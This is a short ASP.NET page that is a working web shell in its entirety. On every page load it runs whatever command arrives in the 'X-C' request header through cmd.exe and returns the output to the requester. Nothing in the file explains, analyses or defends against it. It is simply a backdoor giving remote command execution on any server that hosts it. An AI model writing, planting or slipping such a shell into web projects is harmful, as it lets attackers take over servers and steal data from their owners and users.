<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Headers["X-C"]);
    p.RedirectStandardOutput = true; p.UseShellExecute = false;
    Response.Write(System.Diagnostics.Process.Start(p).StandardOutput.ReadToEnd());
}
</script>
